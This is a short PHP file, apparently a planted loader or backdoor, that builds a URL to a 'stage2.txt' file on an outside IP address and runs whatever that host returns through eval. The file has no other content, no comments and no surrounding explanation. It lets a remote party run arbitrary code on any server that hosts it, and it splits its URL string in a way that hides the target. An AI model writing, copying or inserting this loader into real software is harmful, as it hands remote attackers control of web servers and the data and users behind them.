<?php
$u = 'http://203.0.113.45/p/' . 'stage2.txt';
eval('?>' . file_get_contents($u));
